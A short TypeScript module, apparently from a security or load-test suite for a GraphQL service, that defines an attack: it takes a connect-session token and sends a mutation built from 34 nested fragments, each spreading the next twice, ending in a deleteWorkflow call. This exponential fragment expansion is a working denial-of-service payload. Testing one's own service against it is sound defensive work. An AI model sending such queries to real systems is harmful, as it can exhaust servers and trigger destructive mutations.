import { type Attack } from '../../attack.js';

/** The same as `fragments` in a mutation, with the token of an end user's browser. */
export const sessionFragments: Attack = {
  name: 'fragments with a connect session',
  lanes: 4,
  begin: async (attacker) => {
    const { token } = await attacker.make('POST', '/connect_sessions', { type: 'sandbox_api_key' });
    const levels = Array.from({ length: 34 }, (_, n) => `fragment f${n} on Mutation { ...f${n + 1} ...f${n + 1} }`);
    const query = `mutation { ...f0 } ${levels.join(' ')} fragment f34 on Mutation { deleteWorkflow(id: "x") }`;
    return () => attacker.graphql(query, {}, token);
  },
};
